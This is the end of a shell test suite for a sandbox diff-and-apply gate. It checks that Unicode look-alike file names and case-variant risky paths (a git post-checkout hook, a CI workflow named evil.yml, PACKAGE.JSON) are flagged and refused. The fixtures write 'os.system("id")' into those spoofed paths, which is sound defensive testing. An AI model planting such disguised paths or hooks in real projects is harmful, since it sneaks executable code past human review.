check "apply --all: the five twins refused (126), the host keeps one of each" '[ $rc -eq 126 ] && [ "$(grep -c "^refused.*NFC" "$T/out")" = 5 ] && [ "$(ls "$T/s6" | python3 -c "import sys,unicodedata; n=sys.stdin.read().split(chr(10)); print(sum(1 for x in n if unicodedata.normalize(\"NFC\", x) in (\"\u0622.py\", \"\u00c5ngstrom.py\", \"\u0623mn.py\", \"Kconfig\", \"not\u00e9.txt\")))")" = 5 ]'

# --- look-alike folders, NFKC and case twins, slash and dot look-alikes ------
# A composed folder beside the host's decomposed one (as macOS writes
# names), names whose NFKC form is another path's (U+2024, U+FF0F, U+FB01),
# a top-level name drawn like src/app.py (U+2215), a Cyrillic letter in a
# Latin word, and risky paths in other case (a case-insensitive host folder
# would take them for the real thing).
ID=sbx_0123456789abcdef0123bd07
mkdir -p "$T/s7"
python3 - "$T/s7" <<'PY'
import os, sys
for n in ["cafe\u0301/menu.py", "src/app.py", "setup.py", "config.py", "build.sh"]:
    os.makedirs(os.path.dirname(sys.argv[1] + "/" + n), exist_ok=True)
    open(sys.argv[1] + "/" + n, "w").write("ok = 1\n")
PY
sg_fixture_sandbox "$ID" "$T/s7"
W=$SANDGATE_STATE/sandboxes/$ID/work
python3 - "$W" <<'PY'
import os, sys
for n in ["caf\u00e9/order.py", "setup\u2024py", "con\ufb01g.py", "src\u2215app.py",
          "src\uff0fapp.py", "s\u0435tup.py", ".GIT/hooks/post-checkout",
          ".GitHub/workflows/evil.yml", "PACKAGE.JSON", "\u043f\u0440\u0438\u043c\u0435\u0440.py",
          "docs/plain.md"]:
    os.makedirs(os.path.dirname(sys.argv[1] + "/" + n) or sys.argv[1], exist_ok=True)
    open(sys.argv[1] + "/" + n, "w").write('import os; os.system("id")\n')
PY
sg diff --stat "$ID"; rc=$?
cp "$T/out" "$T/s7.stat"
line() { grep -F -- "$(printf "$1")" "$T/s7.stat"; }
check "diff --stat: a composed folder beside the host's decomposed one is flagged (NFC twin)" '[ $rc -eq 0 ] && line "caf\xc3\xa9/order.py" | grep -q "NFC form is another path"'
check "diff --stat: NFKC twins (U+2024, U+FB01, U+FF0F) and U+2215 flagged" '[ "$(grep -c "reads like another" "$T/s7.stat")" = 3 ] && grep -F "A \"setup\\342\\200\\244py\"" "$T/s7.stat" | grep -q risky && line "con\xef\xac\x81g.py" | grep -q "reads like another"'
check "diff --stat: slash and dot look-alikes are quoted" 'grep -qF "A \"src\\342\\210\\225app.py\"" "$T/s7.stat" && grep -qF "A \"src\\357\\274\\217app.py\"" "$T/s7.stat" && grep -qF "A \"setup\\342\\200\\244py\"" "$T/s7.stat"'
check "diff --stat: a Cyrillic letter in a Latin word is flagged, a Cyrillic word is not" 'line "s\xd0\xb5tup.py" | grep -q "several scripts" && line "\xd0\xbf\xd1\x80\xd0\xb8" | grep -vq risky'
check "diff --stat: risky paths in other case flagged (.GIT/hooks, .GitHub/workflows, PACKAGE.JSON)" 'line ".GIT/hooks/post-checkout" | grep -q "git internals" && line ".GitHub/workflows/evil.yml" | grep -q "CI workflow" && line "PACKAGE.JSON" | grep -q "package scripts"'
check "diff --stat: a plain new file is not flagged" 'line "docs/plain.md" | grep -vq risky'
sg diff "$ID"
REV=$(awk '/^review /{print $2}' "$T/out")
sg apply --all --review "$REV" "$ID"; rc=$?
check "apply --all: the nine look-alikes refused (126), only the two plain files applied" '[ $rc -eq 126 ] && [ "$(grep -c "^refused" "$T/out")" = 9 ] && [ "$(grep -c "^applied" "$T/out")" = 2 ] && [ "$(ls "$T/s7" | grep -c "^caf")" = 1 ] && [ ! -e "$T/s7/.GIT" ] && [ ! -e "$T/s7/PACKAGE.JSON" ]'

echo "$pass passed, $fail failed"
[ "$fail" -eq 0 ]
